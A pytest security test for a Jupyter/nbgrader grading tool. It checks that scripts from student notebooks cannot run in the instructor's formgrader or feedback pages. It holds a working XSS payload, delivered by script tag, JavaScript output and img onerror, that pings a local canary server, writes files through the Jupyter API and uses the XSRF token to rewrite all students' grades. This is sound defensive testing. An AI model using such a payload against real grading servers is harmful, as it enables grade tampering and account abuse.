"""No script a student wrote runs in the instructor's browser (issue 19, item 3).

One class of the fixture lesson: an honest student and three hostile ones, each carrying one
payload: a ``<script>`` in a ``text/html`` output, an ``application/javascript`` output, and
``<img src=x onerror=...>`` in their written (markdown) answer. The payload, once run, (i)
fetches a canary HTTP server this test runs on 127.0.0.1, (ii) writes a file through the
Jupyter contents API and (iii) sets every student's grades through formgrader's API, with the
XSRF token a script of that origin can read, as the attack in the issue did.

The class is graded by ``python -m course_grading``. Then, harder than a class graded this
way (whose stored copies hold inert outputs already, which is checked too), each hostile
student's autograded copy gets back the live outputs their own run saved, and feedback is
generated again by hand (``nbgrader generate_feedback``, formgrader's button): so every page
below is made safe when it is rendered. Logged in as the instructor (a token-less Jupyter
server on 127.0.0.1 with formgrader, as the course folder configures it), headless Chromium
opens formgrader's manual-grading view of every submission, an HTML file a student left beside
their notebook (formgrader serves a submission's files from its own origin) and every feedback
page; nothing may reach the canary, no file may be written, no grade may change, and
formgrader must still work (its script runs and *Full credit* records a grade).

The checks can fail: the same pages with the sanitiser turned off but the Content-Security-
Policy kept run no payload either (the policy alone holds, and reports what it blocked), and
with both off every payload reaches the canary, writes its file and changes grades.

Needs ``/usr/bin/chromium`` and the ``playwright`` package (dev extra); never downloads a
browser.
"""

from __future__ import annotations

import contextlib
import copy
import html
import http.server
import os
import shutil
import signal
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import nbformat
import pytest
from class_builders import FIXTURE, filled, find, fixture_course, sandbox_problem, write
from helpers import CHROMIUM, CHROMIUM_ARGS, wait_for_jupyter
from nbconvert.exporters import HTMLExporter
from nbgrader.api import Gradebook

from course_grading.nbgrader import course as wc
from course_grading.pages.safe_pages import FEEDBACK_CSP, with_policy

HOSTILE = ("html_script", "js_output", "md_img")
#: A file a student left beside their notebook, which formgrader serves from their folder.
STUDENT_FILE = "student_file"
NO_SANDBOX = ["--no-sandbox"] if sandbox_problem() else []

pytestmark = [
    pytest.mark.browser,
    pytest.mark.skipif(
        not CHROMIUM.exists(), reason="needs Debian's chromium at /usr/bin/chromium"
    ),
]
playwright_api = pytest.importorskip("playwright.sync_api")

# One line (it goes into a markdown attribute too); WHO and CANARY are filled in per student.
PAYLOAD = " ".join(
    """(function () {
  var who = "WHO", canary = "CANARY";
  var page = location.protocol === "file:" ? "feedback" : "formgrader";
  var hit = canary + "/hit/" + who + "/" + page;
  fetch(hit + "/fetch", {mode: "no-cors"}).catch(function () {});
  new Image().src = hit + "/img";
  var m = document.cookie.match(/(?:^|; )_xsrf=([^;]*)/);
  var h = {"Content-Type": "application/json", "X-XSRFToken": m ? decodeURIComponent(m[1]) : ""};
  var json = function (r) { return r.json(); };
  fetch("/api/contents/pwned_" + who + ".txt", {method: "PUT", headers: h,
    body: JSON.stringify({type: "file", format: "text", content: "written by " + who})});
  fetch("/formgrader/api/submitted_notebooks/FIXTURE/FIXTURE").then(json).then(function (subs) {
    subs.forEach(function (s) {
      fetch("/formgrader/api/grades?submission_id=" + s.id).then(json).then(function (gs) {
        gs.forEach(function (g) {
          fetch("/formgrader/api/grade/" + g.id, {method: "PUT", headers: h, body: JSON.stringify(
            {manual_score: s.student === who ? g.max_score : 0, extra_credit: 5})});
        });
      });
    });
  });
})();""".split()
)


def payload(who: str, canary: str) -> str:
    return PAYLOAD.replace("WHO", who).replace("CANARY", canary).replace("FIXTURE", FIXTURE)


def _display(mime: str, value: str, text: str) -> nbformat.NotebookNode:
    return nbformat.v4.new_output("display_data", data={mime: value, "text/plain": text})


def hostile_notebooks(work: wc.WorkCourse, canary: str) -> dict[str, nbformat.NotebookNode]:
    """The class: each answer cell as the student ran it, with the outputs their run saved."""
    honest = filled(work.release_notebook(FIXTURE), work.source_notebook(FIXTURE))
    class_ = {"honest": honest}
    for who in HOSTILE:
        nb, js = copy.deepcopy(honest), payload(who, canary)
        if who == "html_script":
            markup = f"<p>ratio computed</p><script>{js}</script>"
            cell = find(nb, "answer_ratio")
            shown = f"from IPython.display import HTML, display\ndisplay(HTML({markup!r}))\n"
            cell.source = shown + cell.source
            cell.outputs = [_display("text/html", markup, "<IPython.core.display.HTML object>")]
        elif who == "js_output":
            cell = find(nb, "answer_tokens")
            run = f"from IPython.display import Javascript, display\ndisplay(Javascript({js!r}))\n"
            cell.source = run + cell.source
            cell.outputs = [
                _display("application/javascript", js, "<IPython.core.display.Javascript object>")
            ]
        else:
            cell = find(nb, "written_reflect")
            cell.source += f'\n\n<img src="x" onerror="{html.escape(js)}">'
        class_[who] = nb
    return class_


class Canary(http.server.ThreadingHTTPServer):
    """Answers everything with 204 and keeps the path of every request."""

    def __init__(self) -> None:
        self.hits: list[str] = []
        hits = self.hits

        class Handler(http.server.BaseHTTPRequestHandler):
            def _answer(self) -> None:
                hits.append(self.path)
                self.send_response(204)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()

            do_GET = do_POST = do_PUT = do_OPTIONS = _answer

            def log_message(self, *args) -> None:
                pass

        super().__init__(("127.0.0.1", 0), Handler)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}"


@pytest.fixture(scope="module")
def canary():
    server = Canary()
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server
    server.shutdown()


def grades(course: Path) -> dict[tuple[str, str], tuple]:
    """Every grade of the class: (student, item) -> (manual score, extra credit)."""
    with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gb:
        return {
            (g.student.id, g.name): (g.manual_score, g.extra_credit)
            for sub in gb.notebook_submissions(FIXTURE, FIXTURE)
            for g in sub.grades
        }


def submission_ids(course: Path) -> dict[str, str]:
    with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gb:
        return {s.student.id: s.id for s in gb.notebook_submissions(FIXTURE, FIXTURE)}


def _autograded(course: Path, who: str) -> Path:
    return course / "autograded" / who / FIXTURE / f"{FIXTURE}.ipynb"


def _active_outputs(nb: nbformat.NotebookNode) -> list[str]:
    return [
        mime
        for cell in nb.cells
        for out in cell.get("outputs", [])
        for mime, value in out.get("data", {}).items()
        if mime == "application/javascript" or (mime == "text/html" and "<script" in value)
    ]


@pytest.fixture(scope="module")
def graded(tmp_path_factory, canary):
    """The class graded; stored copies given back their live outputs; feedback made again."""
    tmp = tmp_path_factory.mktemp("active")
    root, work = fixture_course(tmp)
    class_ = hostile_notebooks(work, canary.url)
    for who, nb in class_.items():
        write(tmp / "class" / f"{who}_{FIXTURE}.ipynb", nb)
    out = tmp / "out"
    command = [sys.executable, "-m", "course_grading", str(tmp / "class"), "--out", str(out)]
    command += ["--root", str(root), "--jobs", "2", "--timeout", "60", *NO_SANDBOX]
    proc = subprocess.run(command, capture_output=True, text=True, env=wc.nbgrader_env())
    assert proc.returncode == 0, proc.stderr[-3000:]
    course = out / "course"
    stored = {who: _active_outputs(nbformat.read(_autograded(course, who), 4)) for who in class_}
    for who in ("html_script", "js_output"):  # live again, as a store without the hook has it
        path = _autograded(course, who)
        nb = nbformat.read(path, 4)
        for cell, sent in zip(nb.cells, class_[who].cells):
            if sent.get("outputs"):
                cell.outputs = sent.outputs
        nbformat.write(nb, path)
    page = f"<html><body><p>my plot</p><script>{payload(STUDENT_FILE, canary.url)}</script>"
    (_autograded(course, "md_img").parent / f"{STUDENT_FILE}.html").write_text(page)
    regenerated = wc.run_nbgrader(["generate_feedback", FIXTURE, "--force"], cwd=course)
    assert regenerated.returncode == 0, regenerated.stdout[-3000:]
    return {"out": out, "course": course, "class": class_, "stored": stored, "tmp": tmp}


@pytest.fixture(scope="module")
def browser():
    with playwright_api.sync_playwright() as p:
        b = p.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
        yield b
        b.close()


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


@contextlib.contextmanager
def instructor_server(course: Path, *extra: str):
    """A token-less Jupyter server in ``course`` (formgrader reads its nbgrader_config.py)."""
    port, log_path = _free_port(), course.parent / f"server-{course.name}.log"
    env = {**wc.nbgrader_env(), "JUPYTER_CONFIG_DIR": str(course.parent / ".jupyter")}
    jupyter = Path(sys.executable).with_name("jupyter")
    args = [str(jupyter), "server", "--no-browser", "--ip", "127.0.0.1", f"--port={port}"]
    args += ["--IdentityProvider.token=", "--ServerApp.password=", "--allow-root"]
    args += [f"--ServerApp.root_dir={course}", *extra]
    with open(log_path, "w") as log:
        server = subprocess.Popen(
            args, cwd=course, env=env, stdout=log, stderr=subprocess.STDOUT, start_new_session=True
        )
    url = f"http://127.0.0.1:{port}"
    wait_for_jupyter(server, url, log_path, 120)
    try:
        yield url
    finally:
        os.killpg(server.pid, signal.SIGTERM)
        try:
            server.wait(timeout=20)
        except subprocess.TimeoutExpired:
            os.killpg(server.pid, signal.SIGKILL)


def visit(browser, urls: list[str], settle: float = 1.0) -> tuple[list[dict], list[str]]:
    """Open each page; return each page's (policy, whether formgrader's script ran) and the
    console's messages."""
    page, seen, console = browser.new_page(), [], []
    page.on("console", lambda m: console.append(m.text))
    for url in urls:
        response = page.goto(url)
        page.wait_for_load_state("networkidle")
        # Formgrader's script ran and read the grades through its API (its ``loaded`` flag
        # stays false offline: MathJax, which it also calls, comes from a CDN).
        ran = page.evaluate(
            "() => !!(window.formgrader && formgrader.grades && formgrader.grades.loaded)"
        )
        seen.append(
            {"url": url, "csp": response.headers.get("content-security-policy"), "ran": ran}
        )
    time.sleep(settle)  # any request a payload started has arrived by now
    page.close()
    return seen, console


def _formgrader_pages(url: str, course: Path) -> list[str]:
    """Each submission's manual-grading view, and the file a student left (formgrader's
    route for a submission's files)."""
    ids = submission_ids(course)
    views = [f"{url}/formgrader/submissions/{sid}/" for sid in ids.values()]
    return [*views, f"{url}/formgrader/submissions/{ids['md_img']}/{STUDENT_FILE}.html"]


def _views(seen: list[dict]) -> list[dict]:
    return [s for s in seen if s["url"].startswith("http") and s["url"].endswith("/")]


def _feedback_pages(graded) -> list[Path]:
    """The grading command's feedback, and the feedback made again by hand."""
    out, course = graded["out"], graded["course"]
    made = [out / "feedback" / who / f"{FIXTURE}.html" for who in graded["class"]]
    again = [course / "feedback" / who / FIXTURE / f"{FIXTURE}.html" for who in graded["class"]]
    return made + again


def directives(policy: str | None) -> dict[str, list[str]]:
    """A Content-Security-Policy as {directive: [sources]}."""
    parts = [d.split() for d in (policy or "").split(";") if d.strip()]
    return {p[0]: p[1:] for p in parts}


def _written(course: Path) -> list[str]:
    return sorted(p.name for p in course.rglob("pwned_*"))


def test_grading_stores_inert_outputs(graded):
    assert all(graded["stored"][who] == [] for who in graded["class"]), graded["stored"]
    for who in ("html_script", "js_output"):  # the check can tell: the live copy has them
        assert _active_outputs(graded["class"][who])


def test_no_student_script_runs_in_formgrader_or_feedback(graded, browser, canary):
    course = graded["course"]
    before = grades(course)
    feedback = _feedback_pages(graded)
    assert all(p.is_file() for p in feedback), [str(p) for p in feedback if not p.is_file()]
    with instructor_server(course) as url:
        pages = _formgrader_pages(url, course) + [p.as_uri() for p in feedback]
        seen, console = visit(browser, pages)
        page = browser.new_page()  # formgrader still grades: Full credit on the honest answer
        page.goto(f"{url}/formgrader/submissions/{submission_ids(course)['honest']}/")
        page.wait_for_load_state("networkidle")
        scoring = page.locator("div.pull-right", has=page.locator("#written_reflect"))
        scoring.locator(".full-credit").click()
        page.wait_for_function("() => document.querySelector('#written_reflect').value === '2'")
        page.wait_for_load_state("networkidle")
        page.close()
    assert canary.hits == [], canary.hits
    assert _written(course) == []
    after = grades(course)
    assert after.pop(("honest", "written_reflect")) == (2.0, None)  # the click, recorded
    before.pop(("honest", "written_reflect"))
    assert after == before
    formgrader_pages = _views(seen)
    assert len(formgrader_pages) == 4 and all(s["ran"] for s in formgrader_pages), seen
    files = next(s for s in seen if s["url"].endswith(f"{STUDENT_FILE}.html"))
    assert "sandbox" in directives(files["csp"]) and "script-src" not in directives(files["csp"])
    for s in formgrader_pages:
        scripts = directives(s["csp"])["script-src"]
        assert scripts[:2] == ["'self'", scripts[1]] and scripts[1].startswith("'nonce-"), s
        assert "'unsafe-inline'" not in scripts and "'unsafe-eval'" not in scripts, s
    # Nothing had to be blocked by the policy: the sanitiser left no inline script or handler.
    assert not [m for m in console if "inline" in m and "Content Security Policy" in m], console
    print(f"\n{len(seen)} pages opened; console: {len(console)} message(s)")


@pytest.fixture(scope="module")
def unsanitised(graded):
    """A copy of the course whose configuration renders formgrader's pages unsanitised."""
    course = graded["course"]
    control = graded["tmp"] / "unsanitised"
    shutil.copytree(course, control, ignore=shutil.ignore_patterns("pwned_*"))
    config = (control / wc.CONFIG_FILE).read_text().replace(str(course), str(control))
    config += "\nc.HTMLExporter.preprocessors = []\nc.HTMLExporter.filters = {}\n"
    (control / wc.CONFIG_FILE).write_text(config)
    exporter = HTMLExporter()  # nbconvert as it comes: what an unconfigured feedback would be
    plain, guarded = [], []
    for who in HOSTILE:
        page = exporter.from_notebook_node(nbformat.read(_autograded(control, who), 4))[0]
        plain.append(control / f"feedback-{who}.html")
        plain[-1].write_text(page, encoding="utf-8")
        guarded.append(control / f"feedback-{who}-policy.html")  # the feedback's policy alone
        guarded[-1].write_text(with_policy(page, FEEDBACK_CSP), encoding="utf-8")
    return control, [p.as_uri() for p in plain], [p.as_uri() for p in guarded]


def test_the_policy_alone_blocks_every_payload(unsanitised, browser, canary):
    control, _, guarded_feedback = unsanitised
    canary.hits.clear()
    with instructor_server(control) as url:
        seen, console = visit(browser, _formgrader_pages(url, control) + guarded_feedback)
    assert canary.hits == [] and _written(control) == []
    blocked = [m for m in console if "Content Security Policy" in m and "inline" in m]
    assert len(blocked) >= 2 * len(HOSTILE), console  # each payload tried, and was refused
    assert all(s["ran"] for s in _views(seen)), seen  # formgrader's own script still ran


def test_without_sanitiser_and_policy_every_payload_runs(unsanitised, browser, canary):
    control, feedback, _ = unsanitised
    canary.hits.clear()
    before = grades(control)
    off = "--ServerApp.jpserver_extensions=course_grading.pages.formgrader_csp=False"
    with instructor_server(control, off) as url:
        seen, _ = visit(browser, _formgrader_pages(url, control) + feedback, settle=3)
    assert all(s["csp"] is None or "nonce" not in s["csp"] for s in seen)
    for who in HOSTILE:
        assert any(f"/hit/{who}/formgrader" in h for h in canary.hits), (who, canary.hits)
        assert any(f"/hit/{who}/feedback" in h for h in canary.hits), (who, canary.hits)
    assert any(f"/hit/{STUDENT_FILE}/formgrader" in h for h in canary.hits), canary.hits
    assert _written(control) == [f"pwned_{who}.txt" for who in sorted((*HOSTILE, STUDENT_FILE))]
    assert grades(control) != before
